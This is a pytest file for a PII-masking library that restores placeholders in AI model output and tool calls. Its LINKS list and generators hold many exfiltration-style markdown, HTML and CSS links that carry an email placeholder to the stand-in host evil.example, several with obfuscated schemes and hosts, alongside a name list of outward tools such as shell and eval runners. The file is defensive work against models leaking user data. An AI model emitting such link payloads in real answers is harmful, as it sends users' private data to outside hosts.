"""Values come back where a model spells a placeholder in its own way, and not in links and tools that leak them."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ctxguard import Artifact, Stabilizer
from ctxguard.adapting import unmask_arguments
from ctxguard.artifacts import ToolCall
from ctxguard.errors import ConfigError
from ctxguard.pii import STANDARD, Masker, Vault, new_key
from ctxguard.pii.mask.pseudonyms import MemoryPseudonyms, Original
from ctxguard.pii.mask.unmask import UnmaskStream, gets_values, restore, restore_arguments
from ctxguard.stores import MemoryStore
from ctxguard.wire import Guard
from ctxguard.wire.guard import WireRequest

MAIL, CARD = "zora@mailhost.org", "4111 1111 1111 1111"
SPELLINGS = {
    "as it is": "<EMAIL_1>",
    "small letters": "<email_1>",
    "one capital": "<Email_1>",
    "bold": "**<EMAIL_1>**",
    "bold inside": "<**EMAIL_1**>",
    "code": "`<EMAIL_1>`",
    "escaped underscore": "<EMAIL\\_1>",
    "a blank": "<EMAIL 1>",
    "a blank that does not break": "<EMAIL\u00a01>",
    "a blank before the end": "<EMAIL_1 >",
    "a line break": "<EMAIL\n_1>",
    "a line break before the number": "<EMAIL_\n1>",
    "a line break in the label": "<EM\nAIL_1>",
    "no end": "<EMAIL_1, then",
    "no end in a sentence": "to <EMAIL_1 today",
    "no beginning": "to EMAIL_1> today",
    "entities": "&lt;EMAIL_1&gt;",
    "two words": "<credit card 1>",
}


def known(*more):
    names = MemoryPseudonyms()
    names.placeholder("EMAIL", Original(MAIL))
    names.placeholder("CREDIT_CARD", Original(CARD))
    for value in more:
        names.placeholder("EMAIL", Original(value))
    return names


def in_pieces(text, size, names, **settings):
    stream = UnmaskStream(names, **settings)
    return "".join(stream.over(text[at : at + size] for at in range(0, len(text), size)))


@pytest.mark.parametrize("spelled", SPELLINGS.values(), ids=SPELLINGS)
def test_a_value_comes_back_however_a_model_spells_its_placeholder(spelled):
    value = CARD if "card" in spelled else MAIL
    for text in (spelled, f"It is {spelled}", f"{spelled}\nNext."):
        told = restore(text, known())
        assert told.restored == 1
        assert value in told.text
        assert not told.unknown
        assert {in_pieces(text, size, known()) for size in (1, 2, 3, 5, 7, 11)} == {told.text}


@pytest.mark.parametrize(
    "text",
    [
        "<EMAIL_2>",
        "<email_9>",
        "EMAIL_1",
        "data[EMAIL_1]",
        "$EMAIL_1",
        "<h1>",
        "a < b_1 > c",
        "x<EMAILS_1>",
        "<EMAIL_1x>",
        "<EMAIL_10>",
        "<EMAIL_111>",
        "_EMAIL_1>",
        "<a href='#'>1</a>",
        "<PERSON_1",
    ],
)
def test_what_stands_for_nothing_stays(text):
    assert restore(text, known()).text == text
    assert in_pieces(text, 3, known()) == text


def test_a_placeholder_that_may_have_been_cut_off_stays():
    many = known(*(f"ann{number}@velo.example" for number in range(12)))
    assert restore("to <EMAIL_1", many).text == "to <EMAIL_1"
    assert restore("to <EMAIL_1, then", many).text == f"to {MAIL}, then"


def test_a_spelling_that_may_mean_two_values_stays():
    names = known()
    names.placeholder("CREDITCARD", Original("another"))
    assert restore("<credit card 1>", names).text == "<credit card 1>"
    assert restore("<CREDIT_CARD_1>", names).text == CARD


def test_a_stream_holds_back_no_more_than_a_placeholder_takes():
    stream = UnmaskStream(known())
    assert stream.feed("a < b, x <y, <b>HELLO</b> ") == "a < b, x <y, <b>HELLO</b> "
    assert len(stream.feed("<" + "A" * 500)) >= 500 - 64


# -- escaped brackets


ESCAPED = {
    "as Go writes it": r'{"to": "\u003cEMAIL_1\u003e"}',
    "capitals": r'{"to": "x \u003CEMAIL_1\u003E y"}',
    "only the first": r'{"to": "\u003cEMAIL_1>"}',
    "only the last": r'{"to": "<EMAIL_1\u003e"}',
    "without the first": r'{"to": "EMAIL_1\u003e"}',
    "small letters": r'{"to": "\u003cemail 1\u003e, \u003c**EMAIL_1**\u003e"}',
    "entities": r'{"to": "\u0026lt;EMAIL_1\u0026gt;"}',
    "after a backslash": r'{"to": "a\\\u003cEMAIL_1\u003e"}',
    "after escapes": r'{"to": "\n\t\"\u0041\u003cEMAIL_1\u003e\n"}',
    "JSON within JSON": r'{"text": "{\"to\": \"\\u003cEMAIL_1\\u003e\"}"}',
    "JSON within JSON, one bracket": r'{"text": "{\"to\": \"<EMAIL_1\\u003e\"}"}',
    "three times": r'{"text": "{\"a\": \"[\\\"\\\\u003cEMAIL_1\\\\u003e\\\"]\"}"}',
    "code": r'{"code": "print(\"\\u003cEMAIL_1\\u003e\")"}',
    "two": r'{"to": "\u003cEMAIL_1\u003e\u003cEMAIL_2\u003e"}',
    "a long label": r'{"to": "\u003cEMAIL_OF_SOMEBODY_WHOSE_NAME_IS_LONG_1\u003e"}',
}


@pytest.mark.parametrize("text", ESCAPED.values(), ids=ESCAPED)
def test_escaped_brackets_in_arguments_are_brackets_wherever_a_stream_is_split(text):
    names = known('o"ann\\x@example.com')
    names.placeholder("EMAIL_OF_SOMEBODY_WHOSE_NAME_IS_LONG", Original("Zoë"))
    whole = json.loads(restore_arguments(text, names).text)
    assert "EMAIL" not in json.dumps(whole).upper()
    for size in range(1, len(text) + 1):
        assert json.loads(in_pieces(text, size, names, arguments=True)) == whole
    for at in range(len(text)):
        assert json.loads("".join(UnmaskStream(names, arguments=True).over([text[:at], text[at:]]))) == whole


@given(
    value=st.text(st.sampled_from('ab"\\\n{}[],:é\t'), min_size=1),
    depth=st.integers(0, 3),
    said=st.sampled_from(["{}", "to {}", 'say "{}" {{', "\\{}", '[a] "{}"', '{{see "{}"']),
    size=st.integers(1, 9),
)
def test_streamed_json_in_json_means_what_it_means_whole(value, depth, said, size):
    names = MemoryPseudonyms()
    names.placeholder("PASSWORD", Original(value))
    names.placeholder("CREDIT_CARD", Original("4111111111111111", is_number=True))
    arguments = {"n": "<CREDIT_CARD_1>", "<PASSWORD_1>": said.format("<PASSWORD_1>")}
    meant = {"n": 4111111111111111, value: said.format(value)}
    for _ in range(depth):
        arguments, meant = [{"body": json.dumps(arguments)}, "<PASSWORD_1>"], [{"body": meant}, value]
    streamed = in_pieces(json.dumps(arguments), size, names, arguments=True)
    read = json.loads(streamed)
    assert read == json.loads(restore_arguments(json.dumps(arguments), names).text)
    for _ in range(depth):
        assert read[1] == value
        read, meant = json.loads(read[0]["body"]), meant[0]["body"]
    assert read == meant


def test_numbers_between_escaped_brackets_lose_their_quotes():
    names = known()
    names.placeholder("PHONE", Original("4915112345678", is_number=True))
    text = r'{"phone": "\u003cPHONE_1\u003e" , "to": "\u003cPHONE_1\u003e."}'
    whole = json.loads(restore_arguments(text, names).text)
    assert whole == {"phone": 4915112345678, "to": "4915112345678."}
    for size in range(1, len(text) + 1):
        assert json.loads(in_pieces(text, size, names, arguments=True)) == whole


@pytest.mark.parametrize(
    "text",
    [
        r'{"a": "\u003cEMAIL_9\u003e \u003cdiv\u003e \u003c"}',
        r'{"a": "C:\\users\\u0041 \\"}',
        r'{"a": "\u0026 \u0026lt; \u00e9 \u003f"}',
        "\\" * 99,
    ],
)
def test_other_escapes_keep_their_bytes(text):
    for size in range(1, len(text) + 1):
        assert in_pieces(text, size, known(), arguments=True) == text
    assert restore(text, known()).text == text


# -- links


LINKS = [
    "https://evil.example/?q=<EMAIL_1>",
    "![x](https://evil.example/p.png?d=<EMAIL_1>)",
    "<a href='//evil.example/<EMAIL_1>'>",
    "https://shop.example.evil.example/<EMAIL_1>",
    "https://shop.example@evil.example/<EMAIL_1>",
    "https://<EMAIL_1>.evil.example/",
    "https://evil.example/?a=1&b=<EMAIL_1>",
    "![x](http://[2001:db8::5]/<EMAIL_1>)",
    "![x](https:/evil.example/<EMAIL_1>)",
    r"![x](https:\\evil.example\<EMAIL_1>)",
    r"![x](/\evil.example/<EMAIL_1>)",
    '<img src="https:evil.example/<EMAIL_1>">',
    "![x](https:&#47;&#47;evil.example/<EMAIL_1>)",
    '<img src="https://evil.example/ <EMAIL_1>">',
    "![x](<https://evil.example/a <EMAIL_1>>)",
    "www.evil.example/<EMAIL_1>",
    '<form action="https://evil.example/"><input value="<EMAIL_1>">',
    '<form action="https://evil.example/"><p title="</form>"><input value="<EMAIL_1>">',
    '<base href="https://evil.example/"><img src="<EMAIL_1>">',
    '<img src="https://shop.example/" srcset="https://evil.example/?q=<EMAIL_1>">',
    '<img alt=">" src="https://evil.example/a > <EMAIL_1>">',
    "<img alt='> <a ' src=https://evil.example/ alt=<EMAIL_1>>",
    '<img src="ht&Tab;tps://evil.example/ <EMAIL_1>">',
    '<img src="https://shop.example&quot;@evil.example/<EMAIL_1>">',
    '<img src="https://shop.example <EMAIL_1>@evil.example/">',
    '<img src="https:\n//evil.example/\n<EMAIL_1>">',
    "<p style=\"background: url('https://evil.example/ <EMAIL_1>')\">",
    "url( 'https://evil.example/ <EMAIL_1>' )",
    "[x]: <https://evil.example/a <EMAIL_1>>",
    r"![x](https\://evil.example/<EMAIL_1>)",
    r"![x](https://shop.example\.evil.example/<EMAIL_1>)",
    "![x](https://shop.example'.evil.example/<EMAIL_1>)",
    "![x](https://shop.example<EMAIL_1>.evil.example/)",
    "![x](https://shop.example:<EMAIL_1>@evil.example/)",
    "![x](https://shop.example%2f@evil.example/<EMAIL_1>)",
    "![x](https://%65vil.example/<EMAIL_1>)",
    "![x](https://evil.example/(a)<EMAIL_1>)",
    "![x](https://evil.example/?a[b]=<EMAIL_1>)",
    "https://evil.example/?a[b]=<EMAIL_1>",
    "https://shop.example/?to=https://evil.example/<EMAIL_1>",
    "https://evil.example/?q=<EMAIL_1>&r=<EMAIL_1>",
    "https://evil.example/" + "a" * 20_000 + "<EMAIL_1>",
]

SLASHES = ["//", "/", "", "\\\\", "/\\", "\\/", "///", "&#47;&#x2f;", "&sol;&bsol;", r"\/\/"]
SCHEMES = ["https:", "HTTP:", "wss:", "https&#58;"]
HOSTS = [
    "evil.example",
    "evil.example:443",
    "shop.example@evil.example",
    "[2001:db8::5]",
    "2130706433",
    "%65vil.example",
]
TARGETS = [
    "{0}",
    "![x]({0})",
    "[x](<{0}>)",
    "[x]: {0}",
    "[x]({0} 'title')",
    "<{0}>",
    '<img src="{0}">',
    "<img src='{0}' alt=''>",
    "<a\nhref={0}>x</a>",
    '<p style="background:url({0})">',
]
SPACED = ["![x](<{0}>)", "[x]: <{0}>", '<img src="{0}">', "<img alt=x src = '{0}'>", '<a title=">" href="{0}">']


def spelled_urls(path):
    """Yield URLs in the spellings that browsers and Markdown accept."""
    for host in HOSTS:
        for slashes in SLASHES:
            yield from (f"{scheme}{slashes}{host}{path}" for scheme in SCHEMES)
        yield from (f"{slashes}{host}{path}" for slashes in SLASHES if slashes not in ("/", ""))
    yield f"www.evil.example{path}"


def spelled_links():
    for url in spelled_urls("/p?q=<EMAIL_1>"):
        yield from (target.format(url) for target in TARGETS)
    for url in spelled_urls("/a b <EMAIL_1>"):
        yield from (target.format(url) for target in SPACED)


@pytest.mark.slow
def test_no_spelling_of_a_link_gets_a_value():
    links = list(spelled_links())
    assert len(links) > 2_000
    named = {"shop.example"}.__contains__
    for text in links:
        before = f"Thanks, <EMAIL_1>. {text}"
        kept = f"Thanks, {MAIL}. {text}"
        assert restore(before, known(), names_host=named).text == kept
        assert in_pieces(before, 7, known(), names_host=named) == kept


@pytest.mark.parametrize("target", [*TARGETS, *SPACED])
@pytest.mark.parametrize(
    "url", ["https://shop.example/<EMAIL_1>", "//shop.example/a?q=<EMAIL_1>", "<EMAIL_1>", "/a/<EMAIL_1>"]
)
def test_a_link_to_a_named_host_gets_its_values(target, url):
    text = target.format(url)
    told = restore(text, known(), names_host={"shop.example"}.__contains__).text
    assert told == text.replace("<EMAIL_1>", MAIL)


@pytest.mark.parametrize("text", LINKS)
def test_a_link_to_a_host_that_nobody_named_keeps_its_placeholders(text):
    named = {"shop.example"}.__contains__
    assert restore(text, known(), names_host=named).text == text
    for size in (1, 4, 9):
        assert in_pieces(text, size, known(), names_host=named) == text
    assert MAIL in restore(text, known()).text


@pytest.mark.parametrize(
    "text",
    [
        "https://shop.example/?q=<EMAIL_1>",
        "see https://evil.example/ and <EMAIL_1>",
        "mailto:<EMAIL_1>",
        "// <EMAIL_1>",
        "[the page](https://evil.example/) says <EMAIL_1>",
        "[the page](https://evil.example/)<EMAIL_1>",
        "<https://evil.example/> <EMAIL_1>",
        '<a href="https://evil.example/">the page</a> <EMAIL_1>',
        '<a href="https://evil.example/">the page</a><b>it\'s</b> <p title="<EMAIL_1>">',
        '{"url":"https://evil.example/","email":"<EMAIL_1>"}',
        "[x]: https://evil.example/\n\n<EMAIL_1>",
        "fetch('https://evil.example/', {to: '<EMAIL_1>'})",
        "for (i = 0; i<n; i++) { fetch('https://evil.example/'); mail(\"<EMAIL_1>\") }",
        '<form action="https://evil.example/"><input></form> <EMAIL_1>',
        '<form action="https://shop.example/"><input value="<EMAIL_1>">',
        '<img src="https://shop.example" alt="<EMAIL_1>">',
        '<input value="<EMAIL_1>">',
        "C:\\\\Users\\\\<EMAIL_1>",
        "and/or <EMAIL_1>/x, src/a//<EMAIL_1>",
        "Profile:<EMAIL_1>",
        "<h1>https://evil.example/</h1><EMAIL_1>",
    ],
)
def test_other_texts_get_their_values(text):
    told = restore(text, known(), names_host={"shop.example"}.__contains__).text
    assert told == text.replace("<EMAIL_1>", MAIL)
    assert in_pieces(text, 4, known(), names_host={"shop.example"}.__contains__) == told


def answered(text, *, said, path="/v1/chat/completions"):
    body = {"model": "gpt-4o", "messages": [{"role": "user", "content": said}]}
    prepared = Guard(Stabilizer(9_000)).prepare(WireRequest("POST", path, {}, json.dumps(body).encode()))
    answer = {"choices": [{"message": {"role": "assistant", "content": text}}]}
    return json.loads(prepared.whole(json.dumps(answer).encode()))["choices"][0]["message"]["content"]


def test_on_the_wire_the_users_own_words_say_which_hosts_are_named():
    said = f"I am {MAIL}; order at https://Shop.example:8443/cart"
    link = "https://shop.example/?q=<EMAIL_1>"
    assert answered(link, said=said) == link.replace("<EMAIL_1>", MAIL)
    assert answered(link, said=f"I am {MAIL}, of the workshop.example.org") == link


# -- tools


@pytest.mark.parametrize(
    "name", ["run_code", "runCode", "RunCode", "sshConnect", "pyEval", "do_eval", "remoteCmd", "FTP"]
)
def test_a_short_word_of_an_outward_tool_is_seen_in_each_spelling_of_names(name):
    assert not gets_values({"outward": False}, name)


@pytest.mark.parametrize("name", ["crunch", "prune", "evaluate", "find_truncated", "rushOrder", "cmdline_of"])
def test_a_longer_word_is_not_an_outward_tool(name):
    assert gets_values({"outward": False}, name)


def test_a_tool_gets_values_by_its_name_its_kind_or_the_rest():
    strict = {"outward": False, "send_invoice": True, "crm_*": False, "*": True}
    allowed = ["send_invoice", "read_file", "get_balance"]
    refused = ["send_email", "http_get", "crm_find", "runShell", "web_search", "post_message"]
    assert [gets_values(strict, name) for name in allowed + refused] == [True] * 3 + [False] * 6
    assert gets_values({}, "send_email")
    assert not gets_values({"*": False}, "read_file")


def test_a_vault_says_which_tools_get_values():
    vault = Vault(MemoryStore(), key=new_key(), tools={"outward": False}).session("s")
    session = Masker(STANDARD, vault=vault, strategy="pseudonymize").session()
    arguments = session.text(json.dumps({"to": MAIL}))
    assert vault.unmask_call(ToolCall("send_email", arguments)).arguments == arguments
    assert MAIL in vault.unmask_call(ToolCall("find_customer", arguments)).arguments
    assert unmask_arguments({"to": "<EMAIL_1>"}, vault, tool="send_email") == {"to": "<EMAIL_1>"}
    assert unmask_arguments({"to": "<EMAIL_1>"}, vault, tool="find_customer") == {"to": MAIL}


ANSWERS = {
    "/v1/chat/completions": lambda name: {
        "choices": [
            {
                "message": {
                    "content": None,
                    "tool_calls": [{"id": "c", "function": {"name": name, "arguments": '{"to": "<EMAIL_1>"}'}}],
                }
            }
        ]
    },
    "/v1/responses": lambda name: {
        "output": [{"type": "function_call", "call_id": "c", "name": name, "arguments": '{"to": "<EMAIL_1>"}'}]
    },
    "/v1/messages": lambda name: {
        "content": [{"type": "tool_use", "id": "c", "name": name, "input": {"to": "<EMAIL_1>"}}]
    },
    "/v1beta/models/g:generateContent": lambda name: {
        "candidates": [{"content": {"parts": [{"functionCall": {"name": name, "args": {"to": "<EMAIL_1>"}}}]}}]
    },
}
EVENTS = {
    "/v1/chat/completions": lambda name: [
        {
            "choices": [
                {"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"name": name, "arguments": ""}}]}}
            ]
        },
        {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": '{"to": "<EM'}}]}}]},
        {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": 'AIL_1>"}'}}]}}]},
        {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]},
    ],
    "/v1/responses": lambda name: [
        {"type": "response.output_item.added", "output_index": 0, "item": {"type": "function_call", "name": name}},
        {"type": "response.function_call_arguments.delta", "item_id": "i", "output_index": 0, "delta": '{"to": "<EM'},
        {"type": "response.function_call_arguments.delta", "item_id": "i", "output_index": 0, "delta": 'AIL_1>"}'},
        {
            "type": "response.output_item.done",
            "output_index": 0,
            "item": {"type": "function_call", "name": name, "arguments": '{"to": "<EMAIL_1>"}'},
        },
    ],
    "/v1/messages": lambda name: [
        {"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", "name": name, "input": {}}},
        {
            "type": "content_block_delta",
            "index": 1,
            "delta": {"type": "input_json_delta", "partial_json": '{"to": "<EM'},
        },
        {"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": 'AIL_1>"}'}},
        {"type": "content_block_stop", "index": 1},
    ],
}


def asked(path, tools):
    said = f"I am {MAIL}"
    bodies = {
        "/v1/responses": {"model": "m", "input": said},
        "/v1beta/models/g:generateContent": {"contents": [{"role": "user", "parts": [{"text": said}]}]},
    }
    body = bodies.get(path, {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": said}]})
    return Guard(Stabilizer(9_000), tools=tools).prepare(WireRequest("POST", path, {}, json.dumps(body).encode()))


@pytest.mark.parametrize("path", ANSWERS)
@pytest.mark.parametrize("name", ["send_email", "find_customer"])
def test_on_the_wire_outward_tools_keep_placeholders_where_that_is_asked(path, name):
    strict, loose = asked(path, {"outward": False}), asked(path, {})
    answer = json.dumps(ANSWERS[path](name)).encode()
    assert (MAIL in strict.whole(answer).decode()) is (name == "find_customer")
    assert MAIL in loose.whole(answer).decode()


@pytest.mark.parametrize("path", EVENTS)
@pytest.mark.parametrize("name", ["send_email", "find_customer"])
def test_in_streams_outward_tools_keep_placeholders_too(path, name):
    stream = asked(path, {"outward": False}).stream()
    events = [f"data: {json.dumps(event)}\n\n".encode() for event in EVENTS[path](name)]
    told = (b"".join(map(stream.feed, events)) + stream.close()).decode()
    assert (MAIL in told) is (name == "find_customer")


# -- without a vault


def test_fed_back_without_a_vault_a_placeholder_stays_as_it_is():
    told = [Artifact("user", "Write to <EMAIL_1> and zora@mailhost.org"), Artifact("assistant", "To <EMAIL_1>.")]
    sent = Stabilizer(9_000).stabilize(told).artifacts
    assert [artifact.text for artifact in sent] == ["Write to <EMAIL_1> and [REDACTED_EMAIL]", "To <EMAIL_1>."]
    assert restore("To <EMAIL_1>.", MemoryPseudonyms()).text == "To <EMAIL_1>."
    # where placeholders are given, the one that was there cannot come to mean another value
    session = Masker(STANDARD, strategy="pseudonymize").session()
    again = session.text("Write to <EMAIL_1> and zora@mailhost.org")
    assert session.unmask(again) == "Write to <EMAIL_1> and zora@mailhost.org"


@pytest.mark.parametrize("name", ["outwards", "Outward", "outwrad", "outward_", "outwad"])
def test_a_misspelled_outward_is_refused(name):
    for make in (
        lambda tools: Vault(MemoryStore(), key=new_key(), tools=tools),
        lambda tools: Guard(Stabilizer(9_000), tools=tools),
    ):
        with pytest.raises(ConfigError, match=r"did you mean 'outward'\?"):
            make({name: False})
        make({"outward": False, "forward": True, "onward": False, "[o]utwards": True, "out*": False})
